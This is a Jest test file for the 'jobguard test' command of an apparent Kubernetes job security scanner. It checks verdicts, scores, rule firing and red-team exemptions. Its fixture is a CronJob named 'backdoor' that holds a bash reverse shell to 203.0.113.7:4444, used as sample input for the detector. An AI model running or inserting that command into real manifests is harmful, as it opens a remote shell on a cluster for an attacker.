/**
 * `jobguard test`: cases pass and fail on the verdict, score range, rules fired and not fired and
 * exemptions; a failure prints expected against got and exits 1; an unusable file exits 2. The
 * shipped examples (examples/custom-rules) pass.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { main } from '../src/cli/index.js';
import type { CliIo } from '../src/cli/io.js';

const ROOT = fileURLToPath(new URL('..', import.meta.url));
let dir: string;

const REVERSE_SHELL = `apiVersion: batch/v1
kind: CronJob
metadata: { name: backdoor, namespace: team-a }
spec:
  schedule: '* * * * *'
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
            - name: x
              image: alpine
              command: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']
---
apiVersion: v1
kind: ConfigMap
metadata: { name: not-scored }
---
apiVersion: batch/v1
kind: Job
metadata: { name: report, namespace: team-a }
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - { name: r, image: registry.corp.example/report:1, args: ['--daily'] }
`;

const POLICY = `apiVersion: jobguard.dev/v1
kind: Policy
mode: enforce
exemptions:
  - reason: red team exercise
    names: [backdoor]
    users: [red-team]
`;

function testFile(cases: string, head = 'policy: policy.yaml\n'): string {
  return `apiVersion: jobguard.dev/v1\nkind: Test\n${head}cases:\n${cases}`;
}

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'jobguard-test-cmd-'));
  mkdirSync(join(dir, 'suite', 'nested'), { recursive: true });
  const files: Record<string, string> = {
    'manifests.yaml': REVERSE_SHELL,
    'policy.yaml': POLICY,
    'pass.yaml': testFile(`  - name: the backdoor is denied
    manifest: manifests.yaml
    resource: CronJob/team-a/backdoor
    expect: { verdict: deny, action: deny, fires: [reverse-shell], score: { min: 10 } }
  - name: the report job passes
    manifest: manifests.yaml
    resource: Job/report
    expect: { verdict: allow, notFires: [reverse-shell], score: 0 }
  - name: the red team is exempt
    manifest: manifests.yaml
    resource: CronJob/backdoor
    user: red-team
    expect: { action: allow, exempted: true }
`),
    'fail.yaml': testFile(`  - name: wrong expectations
    manifest: manifests.yaml
    resource: CronJob/team-a/backdoor
    expect: { verdict: warn, score: { max: 10 }, fires: [crypto-miner], notFires: [reverse-shell], exempted: true }
  - name: a resource that is not there
    manifest: manifests.yaml
    resource: CronJob/nope
    expect: { verdict: allow }
`),
    'bad.yaml': testFile(`  - name: x\n    manifest: manifests.yaml\n    expect: {}\n`),
    'bad-policy.yaml': testFile(
      `  - name: x\n    manifest: manifests.yaml\n    expect: { verdict: allow }\n`,
      'policy: nope.yaml\n',
    ),
    'suite/jobguard-test.yaml': testFile(
      `  - name: default policy warns\n    manifest: ../manifests.yaml\n    resource: CronJob/backdoor\n    expect: { fires: [reverse-shell] }\n`,
      '',
    ),
    'suite/nested/b.jobguard-test.yaml': testFile(
      `  - name: nested\n    manifest: ../../manifests.yaml\n    resource: Job/report\n    expect: { verdict: allow }\n`,
      '',
    ),
    'suite/nested/ignored.yaml': 'not a test file',
  };
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
});

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

async function run(
  cwd: string,
  ...argv: string[]
): Promise<{ code: number; stdout: string; stderr: string }> {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  const out: string[] = [];
  const err: string[] = [];
  stdout.on('data', (chunk: Buffer) => out.push(chunk.toString()));
  stderr.on('data', (chunk: Buffer) => err.push(chunk.toString()));
  const io: CliIo = {
    stdout,
    stderr,
    stdin: new PassThrough(),
    env: {},
    cwd,
    stdoutIsTTY: false,
    stderrIsTTY: false,
  };
  const code = await main(['test', ...argv], io);
  return { code, stdout: out.join(''), stderr: err.join('') };
}

describe('jobguard test', () => {
  it('passes when every case matches, and says so with --verbose', async () => {
    const { code, stdout } = await run(dir, '--verbose', 'pass.yaml');
    expect(stdout).toBe(
      [
        'ok    pass.yaml: the backdoor is denied',
        'ok    pass.yaml: the report job passes',
        'ok    pass.yaml: the red team is exempt',
        '3 passed, 0 failed',
        '',
      ].join('\n'),
    );
    expect(code).toBe(0);
  });

  it('prints expected against got for each difference and exits 1', async () => {
    const { code, stdout } = await run(dir, 'fail.yaml');
    expect(code).toBe(1);
    const lines = stdout.split('\n');
    expect(lines[0]).toBe('FAIL  fail.yaml: wrong expectations');
    expect(lines[1]).toMatch(/^ {6}verdict: {2}expected warn, got deny \(score \d+\)$/);
    expect(lines[2]).toMatch(/^ {6}score: {4}expected 0\.\.10, got \d+$/);
    expect(lines[3]).toMatch(/^ {6}fires: {4}crypto-miner did not fire \(fired: .*reverse-shell.*\)$/);
    expect(lines[4]).toBe(
      '      notFires: reverse-shell fired at spec.jobTemplate.spec.template.spec.containers[0].command[2]',
    );
    expect(lines[5]).toBe('      exempted: expected an exemption to apply, none did');
    expect(lines[6]).toBe('FAIL  fail.yaml: a resource that is not there');
    expect(lines[7]).toBe('      manifests.yaml: no scored object is CronJob/nope');
    expect(lines[8]).toBe('0 passed, 2 failed');
  });

  it('finds test files in folders by name', async () => {
    const { code, stdout } = await run(dir, '-v', 'suite');
    expect(stdout).toContain('ok    suite/jobguard-test.yaml: default policy warns');
    expect(stdout).toContain('ok    suite/nested/b.jobguard-test.yaml: nested');
    expect(stdout).toContain('2 passed, 0 failed');
    expect(code).toBe(0);
  });

  it('exits 2 and names the file and field for an unusable test file or policy', async () => {
    const bad = await run(dir, 'bad.yaml');
    expect(bad.code).toBe(2);
    expect(bad.stderr).toBe(
      'jobguard test: bad.yaml: cases[0].expect: expect needs at least one of verdict, action, score, fires, notFires, exempted\n',
    );
    const policy = await run(dir, 'bad-policy.yaml');
    expect(policy.code).toBe(2);
    expect(policy.stderr).toBe('jobguard test: nope.yaml: cannot read the file (ENOENT)\n');
  });

  it('exits 2 without inputs or with a missing path', async () => {
    expect((await run(dir)).code).toBe(2);
    const missing = await run(dir, 'nowhere');
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('nowhere: no such file or folder');
  });

  it('runs the shipped custom-rule examples green', async () => {
    const { code, stdout } = await run(ROOT, '-v', 'examples');
    expect(stdout).toContain(
      'ok    examples/custom-rules/jobguard-test.yaml: ncat behind sh -c and nohup is found',
    );
    expect(stdout).toMatch(/\d+ passed, 0 failed/);
    expect(code).toBe(0);
  });
});
